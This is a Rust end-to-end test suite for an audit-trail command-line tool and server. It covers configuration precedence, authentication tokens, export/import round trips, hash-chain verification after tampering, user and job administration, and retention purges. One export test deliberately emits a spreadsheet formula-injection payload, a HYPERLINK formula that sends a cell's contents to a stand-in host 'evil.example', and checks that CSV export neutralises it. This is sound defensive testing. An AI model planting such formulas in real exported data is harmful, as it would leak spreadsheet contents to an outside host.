//! The `trail` binary end to end: serve, configuration, the client commands locally and against a
//! server, export/import round trips, and verify on a tampered database.
//!
//! Each test's trail is a [`Trail`]: SQLite by default, and PostgreSQL in the test command's
//! second pass (`TRAIL_TEST_BACKEND=postgres`), so every command is checked on both backends.
//! The configuration test alone stays on SQLite's data directory, which is what it is about.

mod common;

use common::{TOKEN, Trail, events_json, ok, run, spawn_server, stderr, stdout};
use serde_json::Value;

fn emit(dir: &Trail, user: &str, name: &str, message: &str) {
    ok(
        dir,
        &[
            "emit",
            "--user",
            user,
            "--kind",
            "DEVICE_EDITED",
            "--name",
            name,
            "--message",
            message,
            "--attr",
            "ticket=CHG1",
        ],
        &[],
    );
}

#[test]
fn serve_with_nothing_else_prints_where_and_demands_the_token_it_made() {
    let trail = Trail::fresh();
    let d = &trail;
    let server = spawn_server(d, &[], &[("TRAIL_LISTEN", "127.0.0.1:0")]);
    let banner = server.banner.join("\n");
    assert!(banner.contains("listening on http://127.0.0.1:"), "{banner}");
    assert!(banner.contains(&format!("data: {}", trail.described())), "{banner}");
    let token_file = d.join("trail-data/token");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(std::fs::metadata(&token_file).unwrap().permissions().mode() & 0o777, 0o600);
    }
    let token = std::fs::read_to_string(&token_file).unwrap().trim().to_owned();
    let server_args = ["search", "--all-users", "--json", "--server", &server.base];
    let refused = run(d, &server_args, &[("TRAIL_TOKEN", "wrong")]);
    assert!(!refused.status.success());
    assert!(stderr(&refused).contains("unauthorized"), "{}", stderr(&refused));
    ok(d, &server_args, &[("TRAIL_TOKEN", &token)]);
}

#[test]
fn a_non_loopback_address_needs_a_token() {
    let trail = Trail::fresh();
    let refused = run(&trail, &["serve", "--listen", "0.0.0.0:0"], &[]);
    assert!(!refused.status.success());
    assert!(stderr(&refused).contains("refusing to listen on 0.0.0.0:0 without a token"), "{}", stderr(&refused));
}

#[test]
fn flags_beat_environment_beat_file() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("trail.toml"),
        "listen = \"127.0.0.1:1\"\ndata = \"file-data\"\nbody_limit = 1000\n",
    )
    .unwrap();
    // `data` is set three ways at once: the flag wins. `listen` is set by the environment and
    // the file: the environment wins (the file's port 1 could not be bound).
    let envs = [
        ("TRAIL_CONFIG", "trail.toml"),
        ("TRAIL_DATA", "env-data"),
        ("TRAIL_LISTEN", "127.0.0.1:0"),
        ("TRAIL_TOKEN", TOKEN),
    ];
    let server = spawn_server(dir.path(), &["--data", "flag-data"], &envs);
    assert!(server.banner.join("\n").contains("flag-data/trail.db"), "{:?}", server.banner);
    assert!(!dir.path().join("env-data").exists() && !dir.path().join("file-data").exists());
    drop(server);
    let server = spawn_server(dir.path(), &[], &envs);
    assert!(server.banner.join("\n").contains("env-data/trail.db"), "without the flag: {:?}", server.banner);
    // The file's body limit still applies, as nothing else set one.
    let big = format!("{{\"user\":\"a\",\"kind\":\"DEVICE_EDITED\",\"message\":\"{}\"}}", "x".repeat(2000));
    let status = reqwest::blocking_post(&server.base, &big);
    assert_eq!(status, 413);
    let bad = run(dir.path(), &["serve", "--config", "missing.toml"], &[]);
    assert!(stderr(&bad).contains("cannot read the configuration file missing.toml"), "{}", stderr(&bad));
}

mod reqwest {
    /// A blocking POST of one body to /api/v1/events with the test token; returns the status.
    pub fn blocking_post(base: &str, body: &str) -> u16 {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        runtime.block_on(async {
            ::reqwest::Client::new()
                .post(format!("{base}/api/v1/events"))
                .bearer_auth(super::TOKEN)
                .body(body.to_owned())
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        })
    }
}

#[test]
fn local_emit_search_show_tail() {
    let trail = Trail::fresh();
    let d = &trail;
    emit(d, "alice", "edge1", "Device edge1 edited\nmtu 9000");
    emit(d, "bob", "core1", "Device core1 edited");
    emit(d, "carol", "zrh-süd1", "Gerät zrh-SÜD1 geändert");
    let folded = events_json(&ok(d, &["search", "--json", "--all-users", "--message", "süd1 GEÄNDERT"], &[]));
    assert_eq!(folded.len(), 1, "case folds as the matcher says, never as a database collation would");
    let found = events_json(&ok(d, &["search", "--json", "--message", "MTU"], &[]));
    assert_eq!(found.len(), 1);
    assert_eq!(found[0]["user"], "alice");
    assert_eq!(found[0]["attributes"]["ticket"], "CHG1");
    let table = ok(d, &["search", "--user", "bob"], &[]);
    assert!(table.contains("core1") && !table.contains("edge1"), "{table}");
    let csv = ok(d, &["search", "--csv"], &[]);
    assert!(csv.starts_with("id,time,user,client,process,kind"), "{csv}");
    let shown = ok(d, &["show", &found[0]["id"].to_string()], &[]);
    assert!(shown.contains("mtu 9000") && shown.contains("ticket = CHG1"), "{shown}");
    let tail = ok(d, &["tail", "-n", "1", "--json"], &[]);
    assert_eq!(events_json(&tail)[0]["user"], "carol");
    let missing = run(d, &["show", "99"], &[]);
    assert!(stderr(&missing).contains("there is no event 99"));
    let invalid =
        run(d, &["emit", "--user", "a", "--kind", "DEVICE_EDITED", "--message", "m", "--severity", "loud"], &[]);
    assert!(stderr(&invalid).contains("unknown severity"), "{}", stderr(&invalid));
    assert_eq!(d.join("trail-data/trail.db").exists(), !trail.on_postgres(), "the trail is where it was told to be");
}

#[test]
fn remote_commands_use_the_server_and_its_viewer() {
    let trail = Trail::fresh();
    let d = &trail;
    let server = spawn_server(d, &["--listen", "127.0.0.1:0"], &[("TRAIL_TOKEN", TOKEN)]);
    let env = [("TRAIL_SERVER", server.base.as_str()), ("TRAIL_TOKEN", TOKEN)];
    ok(d, &["emit", "--user", "alice", "--kind", "DEVICE_EDITED", "--message", "remote one"], &env);
    ok(d, &["emit", "--user", "bob", "--kind", "DEVICE_EDITED", "--message", "bob's"], &env);
    let everyone = events_json(&ok(d, &["search", "--json", "--action", "update"], &env));
    assert_eq!(everyone.len(), 2, "the automation token is nobody's, so it sees every user by default");
    let bob = events_json(&ok(d, &["search", "--json", "--user", "bob"], &env));
    assert_eq!(bob.len(), 1);
    assert_eq!(bob[0]["message"], "bob's");
    let local_write = run(d, &["emit", "--user", "a", "--kind", "DEVICE_EDITED", "--message", "m"], &[]);
    let written_locally = if trail.on_postgres() {
        assert!(
            local_write.status.success(),
            "on PostgreSQL a local command is one more node: {}",
            stderr(&local_write)
        );
        1
    } else {
        assert!(
            stderr(&local_write).contains("in use by another trail process")
                && stderr(&local_write).contains("with --server"),
            "{}",
            stderr(&local_write)
        );
        0
    };
    let local_read = events_json(&ok(d, &["search", "--json", "--action", "update"], &[]));
    assert_eq!(local_read.len(), 2 + written_locally, "reading beside a running server works");
    let verified = ok(d, &["verify"], &env);
    let expected = format!("OK: {} events verified", 3 + written_locally);
    assert!(verified.starts_with(&expected), "two, the administrator's creation (and the local one): {verified}");
}

#[test]
fn export_then_import_keeps_everything_but_ids_and_hashes() {
    let trail = Trail::fresh();
    let d = &trail;
    ok(
        d,
        &[
            "emit",
            "--user",
            "alice",
            "--kind",
            "ACME.SYNC",
            "--process",
            "sync",
            "--action",
            "sync",
            "--severity",
            "notice",
            "--message",
            "multi\nline, \"quoted\"",
            "--time",
            "2025-01-02T03:04:05.678901Z",
            "--attr",
            "z=1",
            "--attr",
            "a=2",
        ],
        &[],
    );
    emit(d, "bob", "zrh-süd1", "Gerät zrh-süd1 geändert");
    // Cells a spreadsheet would run: neutralised in CSV, and read back whole.
    emit(d, "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+edge", "@SUM(1)\n+more");
    for file in ["out.ndjson", "out.csv"] {
        ok(d, &["export", "-o", file], &[]);
        if file.ends_with("csv") {
            let written = std::fs::read_to_string(d.join(file)).unwrap();
            assert!(written.contains("\"'=HYPERLINK(") && written.contains(",'+edge,"), "{written}");
            assert!(written.contains("\"'@SUM(1)\n+more\""), "only a cell's start matters: {written}");
        }
        let target = Trail::fresh();
        let imported = ok(&target, &["import", d.join(file).to_str().unwrap()], &[]);
        assert!(imported.contains("imported 3 events"), "{imported}");
        let original = events_json(&ok(d, &["search", "--json"], &[]));
        let copy = events_json(&ok(&target, &["search", "--json"], &[]));
        for (a, b) in original.iter().zip(&copy) {
            let strip = |v: &Value| {
                let mut v = v.clone();
                v.as_object_mut().unwrap().remove("hash");
                v.as_object_mut().unwrap().remove("id");
                v
            };
            assert_eq!(strip(a), strip(b), "{file}");
        }
        assert_eq!(copy.len(), 3, "{file}");
        assert_eq!(copy[2]["time"], "2025-01-02T03:04:05.678901Z", "import keeps the original time");
        assert_eq!(copy[2]["attributes"].as_object().unwrap().keys().collect::<Vec<_>>(), ["z", "a"]);
        assert!(ok(&target, &["verify"], &[]).starts_with("OK: 3 events"));
    }
}

/// A running server is the trail's one writer: a local import beside it is refused, says what to
/// do instead, and stores nothing.
#[test]
fn a_local_import_is_refused_while_a_server_holds_the_trail() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let server = spawn_server(d, &["--listen", "127.0.0.1:0"], &[("TRAIL_TOKEN", TOKEN)]);
    std::fs::write(d.join("one.ndjson"), "{\"user\":\"a\",\"kind\":\"DEVICE_EDITED\",\"message\":\"beside\"}\n")
        .unwrap();
    let refused = run(d, &["import", "one.ndjson"], &[]);
    assert_eq!(refused.status.code(), Some(2), "{}", stderr(&refused));
    assert!(stderr(&refused).contains("in use by another trail process") && stderr(&refused).contains("--server"));
    let env = [("TRAIL_SERVER", server.base.as_str()), ("TRAIL_TOKEN", TOKEN)];
    let found = ok(d, &["search", "--json", "--all-users", "--message", "beside"], &env);
    assert!(found.is_empty(), "nothing was imported: {found}");
}

#[test]
fn import_refuses_a_bad_file_whole() {
    let trail = Trail::fresh();
    let d = &trail;
    let lines = "{\"user\":\"a\",\"kind\":\"DEVICE_EDITED\",\"message\":\"fine\"}\n{\"user\":\"a\",\"kind\":\"NOPE\",\"message\":\"m\"}\n";
    std::fs::write(d.join("bad.ndjson"), lines).unwrap();
    let refused = run(d, &["import", "bad.ndjson"], &[]);
    assert!(!refused.status.success());
    assert!(stderr(&refused).contains("line 2") && stderr(&refused).contains("NOPE"), "{}", stderr(&refused));
    if trail.on_postgres() {
        // A reader makes no trail, so it finds none: nothing was stored, not even the schema.
        let search = run(d, &["search", "--json", "--all-users"], &[]);
        assert!(stderr(&search).contains("there is no trail"), "{}", stderr(&search));
    } else {
        assert!(!d.join("trail-data/trail.db").exists(), "nothing was stored, not even an empty trail");
    }
    std::fs::write(d.join("bad.csv"), "user,kind,message,colour\na,DEVICE_EDITED,m,red\n").unwrap();
    assert!(stderr(&run(d, &["import", "bad.csv"], &[])).contains("\"colour\" is unknown"));
}

#[test]
fn verify_names_the_first_tampered_event() {
    let trail = Trail::fresh();
    let d = &trail;
    for i in 0..5 {
        emit(d, "alice", "edge1", &format!("event {i}"));
    }
    assert!(ok(d, &["verify"], &[]).starts_with("OK: 5 events verified"));
    trail.tamper("UPDATE events SET message = 'quietly changed' WHERE id = 3");
    let broken = run(d, &["verify"], &[]);
    assert_eq!(broken.status.code(), Some(1));
    assert!(stdout(&broken).contains("FAILED at event 3"), "{}", stdout(&broken));
    trail.tamper("UPDATE events SET message = 'event 2' WHERE id = 3; DELETE FROM events WHERE id = 2");
    let deleted = run(d, &["verify"], &[]);
    assert!(stdout(&deleted).contains("FAILED at event 2"), "a deletion is named: ids have no gaps");
}

#[test]
fn tail_follows_new_events() {
    use std::io::{BufRead, BufReader};
    let trail = Trail::fresh();
    let d = &trail;
    emit(d, "alice", "edge1", "before the tail");
    let mut follower = common::Killed(
        common::command(d, &["tail", "-f", "-n", "1", "--json"], &[])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap(),
    );
    let mut lines = BufReader::new(follower.0.stdout.take().unwrap()).lines();
    let first: Value = serde_json::from_str(&lines.next().unwrap().unwrap()).unwrap();
    assert_eq!(first["message"], "before the tail");
    let server = spawn_server(d, &["--listen", "127.0.0.1:0"], &[("TRAIL_TOKEN", TOKEN)]);
    ok(
        d,
        &["emit", "--user", "bob", "--kind", "DEVICE_EDITED", "--message", "while tailing"],
        &[("TRAIL_SERVER", &server.base), ("TRAIL_TOKEN", TOKEN)],
    );
    // The server's first start records the administrator it creates; the emitted event follows.
    let followed: Vec<Value> = (0..2).map(|_| serde_json::from_str(&lines.next().unwrap().unwrap()).unwrap()).collect();
    assert_eq!(followed[0]["kind"], "USER_ADDED");
    assert_eq!(followed[1]["message"], "while tailing", "the follower sees events committed by the server");
}

#[test]
fn serve_demo_loads_a_populated_trail_once() {
    let trail = Trail::fresh();
    let d = &trail;
    let server = spawn_server(d, &["--demo", "--listen", "127.0.0.1:0"], &[("TRAIL_TOKEN", TOKEN)]);
    let loaded = "demo: loaded 3015 events";
    assert!(server.banner.iter().any(|l| l == loaded), "3000 and its jobs' 15: {:?}", server.banner);
    drop(server);
    let again = spawn_server(d, &["--demo", "--listen", "127.0.0.1:0"], &[("TRAIL_TOKEN", TOKEN)]);
    assert!(!again.banner.iter().any(|l| l.starts_with("demo:")), "an existing trail is left alone");
    let env = [("TRAIL_SERVER", again.base.as_str()), ("TRAIL_TOKEN", TOKEN)];
    let jobs = ok(d, &["jobs", "list"], &env);
    assert!(jobs.contains("archive edge routers") && jobs.contains("running"), "{jobs}");
    drop(again);
    assert!(
        ok(d, &["verify"], &[]).starts_with("OK: 3016 events verified"),
        "the demo, then the administrator's creation"
    );
    let users = ok(d, &["search", "--json", "--all-users", "--limit", "1000", "--month", "2026-08"], &[]);
    assert!(events_json(&users).len() > 100, "months of events");
}

#[test]
fn users_are_administered_through_the_server_or_locally() {
    use std::io::Write;
    let trail = Trail::fresh();
    let d = &trail;
    let server = spawn_server(
        d,
        &["--listen", "127.0.0.1:0"],
        &[("TRAIL_TOKEN", TOKEN), ("TRAIL_ADMIN_PASSWORD", "first-admin")],
    );
    let env = [("TRAIL_SERVER", server.base.as_str()), ("TRAIL_TOKEN", TOKEN)];
    let mut add = common::command(
        d,
        &["users", "add", "Olga", "--role", "operator", "--display-name", "Olga K", "--password-stdin"],
        &env,
    )
    .stdin(std::process::Stdio::piped())
    .stdout(std::process::Stdio::piped())
    .spawn()
    .unwrap();
    add.stdin.take().unwrap().write_all(b"olga-secret\n").unwrap();
    let added = add.wait_with_output().unwrap();
    assert!(added.status.success(), "{}", stderr(&added));
    assert!(!stdout(&added).contains("olga-secret"), "a given password is never echoed");
    let generated = ok(d, &["users", "add", "pavel", "--role", "viewer"], &env);
    assert!(generated.starts_with("password of pavel: "), "{generated}");
    ok(d, &["users", "lock", "pavel"], &env);
    let list = ok(d, &["users", "list"], &env);
    assert!(
        list.contains("admin") && list.contains("olga") && list.contains("Olga K") && list.contains("operator"),
        "{list}"
    );
    let pavel = list.lines().find(|l| l.starts_with("pavel")).unwrap();
    assert!(pavel.contains("yes"), "pavel is locked: {pavel}");
    let refused = run(d, &["users", "add", "quinn", "--role", "wizard"], &env);
    assert!(
        stderr(&refused).contains("invalid_account") && stderr(&refused).contains("wizard"),
        "{}",
        stderr(&refused)
    );
    drop(server);

    // With no server running, the same commands work on the data directory.
    ok(d, &["users", "unlock", "pavel"], &[]);
    ok(d, &["users", "delete", "olga"], &[]);
    let list = ok(d, &["users", "list"], &[]);
    assert!(
        !list.contains("olga") && !list.lines().find(|l| l.starts_with("pavel")).unwrap().contains("yes"),
        "{list}"
    );
    let kinds = events_json(&ok(d, &["search", "--json", "--all-users", "--limit", "100"], &[]));
    let kinds: Vec<&str> = kinds.iter().map(|e| e["kind"].as_str().unwrap()).collect();
    for kind in ["USER_ADDED", "USER_LOCKED", "USER_UNLOCKED", "USER_DELETED"] {
        assert!(kinds.contains(&kind), "{kind} in {kinds:?}");
    }
}

#[test]
fn login_keeps_a_token_and_tokens_are_managed_through_the_server() {
    use std::io::Write;
    let trail = Trail::fresh();
    let d = &trail;
    let server = spawn_server(
        d,
        &["--listen", "127.0.0.1:0"],
        &[("TRAIL_TOKEN", TOKEN), ("TRAIL_ADMIN_PASSWORD", "admin-secret")],
    );
    let config = d.join("config");
    let config = config.to_str().unwrap();
    let plain = [("TRAIL_SERVER", server.base.as_str()), ("XDG_CONFIG_HOME", config)];
    let refused = run(d, &["search", "--json"], &plain);
    assert!(stderr(&refused).contains("trail login"), "{}", stderr(&refused));

    let login = |password: &str| {
        let mut child = common::command(d, &["login", "--username", "ADMIN", "--password-stdin"], &plain)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(format!("{password}\n").as_bytes()).unwrap();
        child.wait_with_output().unwrap()
    };
    let wrong = login("guess");
    assert!(!wrong.status.success() && stderr(&wrong).contains("invalid credentials"), "{}", stderr(&wrong));
    let logged_in = login("admin-secret");
    assert!(logged_in.status.success(), "{}", stderr(&logged_in));
    let kept = d.join("config/trail/credentials.json");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(std::fs::metadata(&kept).unwrap().permissions().mode() & 0o777, 0o600);
    }
    ok(d, &["search", "--json"], &plain);

    let created = ok(d, &["tokens", "create", "ci", "--scope", "read"], &plain);
    let secret = created.split_whitespace().find(|w| w.starts_with("trl_")).unwrap().to_owned();
    let id = created.split_whitespace().nth(1).unwrap().trim_end_matches(':').to_owned();
    ok(d, &["search", "--json"], &[("TRAIL_SERVER", server.base.as_str()), ("TRAIL_TOKEN", &secret)]);
    let listed = ok(d, &["tokens", "list"], &plain);
    assert!(listed.contains("ci") && listed.contains("read") && !listed.contains(&secret), "{listed}");
    ok(d, &["tokens", "revoke", &id], &plain);
    let revoked = run(d, &["search", "--json"], &[("TRAIL_SERVER", server.base.as_str()), ("TRAIL_TOKEN", &secret)]);
    assert!(stderr(&revoked).contains("unauthorized"), "{}", stderr(&revoked));
    assert!(stderr(&run(d, &["tokens", "list"], &[])).contains("through a server"));
}

#[test]
fn jobs_and_device_results_through_the_server() {
    let trail = Trail::fresh();
    let d = &trail;
    let server = spawn_server(d, &["--listen", "127.0.0.1:0"], &[("TRAIL_TOKEN", TOKEN)]);
    let env = [("TRAIL_SERVER", server.base.as_str()), ("TRAIL_TOKEN", TOKEN)];
    let submitted = ok(d, &["jobs", "submit", "archive edge routers", "--target", "edge1", "--target", "edge2"], &env);
    assert_eq!(submitted.trim(), "job 1");
    std::fs::write(d.join("edge1.conf"), "hostname edge1\nntp server 192.0.2.1\n").unwrap();
    let first = ok(d, &["device", "archive", "edge1", "--config", "edge1.conf", "--job", "1"], &env);
    assert!(first.starts_with("recorded: event "), "{first}");
    let again = ok(d, &["device", "archive", "edge1", "--config", "edge1.conf"], &env);
    assert!(again.starts_with("unchanged: no event"), "{again}");
    std::fs::write(d.join("inventory.json"), r#"{"chassis": {"serial": "AB1"}}"#).unwrap();
    assert!(ok(d, &["device", "inventory", "edge2", "--file", "inventory.json"], &env).starts_with("recorded"));
    std::fs::write(d.join("change.diff"), "-ntp server 192.0.2.1\n+ntp server 192.0.2.2\n").unwrap();
    assert!(
        ok(d, &["device", "commit", "edge1", "--diff", "change.diff", "--comment", "CHG7"], &env)
            .starts_with("recorded")
    );
    assert!(ok(d, &["device", "restore", "edge1", "--source", "archive of monday"], &env).starts_with("recorded"));
    let failed = ok(d, &["device", "archive", "edge2", "--failed", "ssh timeout", "--job", "1"], &env);
    assert!(failed.starts_with("recorded"), "{failed}");

    let listed = ok(d, &["jobs", "list"], &env);
    assert!(listed.contains("archive edge routers") && listed.contains("queued"), "{listed}");
    let shown = ok(d, &["jobs", "show", "1"], &env);
    assert!(shown.contains("edge1") && shown.contains("edge2"), "{shown}");
    let missing = run(d, &["jobs", "show", "9"], &env);
    assert!(stderr(&missing).contains("there is no job 9"), "{}", stderr(&missing));
    let outside = run(d, &["device", "archive", "edge7", "--config", "edge1.conf", "--job", "1"], &env);
    assert!(stderr(&outside).contains("has no target \"edge7\""), "{}", stderr(&outside));

    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    runtime.block_on(async {
        let client = ::reqwest::Client::new();
        let lines: Vec<String> = (1..=2500).map(|n| format!("step {n}")).collect();
        let response = client
            .post(format!("{}/api/v1/jobs/1/log", server.base))
            .bearer_auth(TOKEN)
            .json(&serde_json::json!({"target": "edge1", "lines": lines}))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 201);
    });
    let log = ok(d, &["jobs", "log", "1"], &env);
    assert_eq!(log.lines().count(), 2500, "every page");
    assert!(log.lines().last().unwrap().ends_with("[edge1] step 2500"));
    let grepped = ok(d, &["jobs", "log", "1", "--grep", "STEP 24_0"], &env);
    assert_eq!(grepped.lines().count(), 10);
    assert_eq!(ok(d, &["jobs", "log", "1", "--limit", "1500"], &env).lines().count(), 1500);
    assert!(run(d, &["jobs", "list"], &[]).status.code() != Some(0), "jobs need a server");
}

#[test]
fn purging_old_events_leaves_a_chain_that_verifies() {
    let trail = Trail::fresh();
    let d = &trail;
    for (n, time) in ["2020-01-01T00:00:00Z", "2020-02-01T00:00:00Z", "2020-03-01T00:00:00Z"].iter().enumerate() {
        let message = format!("old {n}");
        ok(d, &["emit", "--user", "alice", "--kind", "DEVICE_EDITED", "--message", &message, "--time", time], &[]);
    }
    emit(d, "alice", "edge1", "recent");
    let purged = ok(d, &["purge", "--older-than-days", "365"], &[]);
    assert_eq!(purged.trim(), "purged 3 events; the chain now starts after id 3");
    let verified = ok(d, &["verify"], &[]);
    assert!(verified.starts_with("OK: 2 events verified after the purge through id 3"), "{verified}");
    let left = events_json(&ok(d, &["search", "--json", "--all-users"], &[]));
    let kinds: Vec<&str> = left.iter().map(|e| e["kind"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["RETENTION_PURGED", "DEVICE_EDITED"], "the purge is recorded");
    assert_eq!(ok(d, &["purge", "--older-than-days", "365"], &[]).trim().split(':').next(), Some("nothing to purge"));

    let server = spawn_server(d, &["--listen", "127.0.0.1:0"], &[("TRAIL_TOKEN", TOKEN)]);
    let env = [("TRAIL_SERVER", server.base.as_str()), ("TRAIL_TOKEN", TOKEN)];
    let remote = ok(d, &["verify"], &env);
    assert!(remote.contains("after the purge through id 3"), "{remote}");
    let everything = ok(d, &["purge", "--older-than-days", "1"], &env);
    assert!(everything.starts_with("nothing to purge"), "today's events stay: {everything}");
    let broken = run(d, &["purge", "--older-than-days", "0"], &env);
    assert!(!broken.status.success());
}

/// `[retention] keep_days` purges on its own: at start, then every 6 hours (S3), recorded as
/// Trail's own act, leaving a chain that verifies.
#[test]
fn retention_keep_days_purges_without_being_asked() {
    let trail = Trail::fresh();
    let d = &trail;
    for (n, time) in ["2020-01-01T00:00:00Z", "2020-02-01T00:00:00Z"].iter().enumerate() {
        let message = format!("old {n}");
        ok(d, &["emit", "--user", "alice", "--kind", "DEVICE_EDITED", "--message", &message, "--time", time], &[]);
    }
    emit(d, "alice", "edge1", "recent");
    std::fs::write(d.join("trail.toml"), "[retention]\nkeep_days = 30\n").unwrap();
    let server = spawn_server(d, &["--listen", "127.0.0.1:0", "--config", "trail.toml"], &[("TRAIL_TOKEN", TOKEN)]);
    let env = [("TRAIL_SERVER", server.base.as_str()), ("TRAIL_TOKEN", TOKEN)];
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let purge = loop {
        let found = events_json(&ok(d, &["search", "--json", "--all-users"], &env));
        if let Some(purge) = found.into_iter().find(|e| e["kind"] == "RETENTION_PURGED") {
            break purge;
        }
        assert!(std::time::Instant::now() < deadline, "no purge was recorded");
        std::thread::sleep(std::time::Duration::from_millis(100));
    };
    assert_eq!(purge["user"], "trail", "the purge names Trail as its cause: {purge}");
    let left: Vec<String> = events_json(&ok(d, &["search", "--json", "--all-users"], &env))
        .iter()
        .map(|e| e["message"].as_str().unwrap_or_default().to_owned())
        .collect();
    assert!(left.iter().any(|m| m == "recent") && !left.iter().any(|m| m.starts_with("old ")), "{left:?}");
    let verified = ok(d, &["verify"], &env);
    assert!(verified.contains("after the purge through id 2"), "{verified}");
}
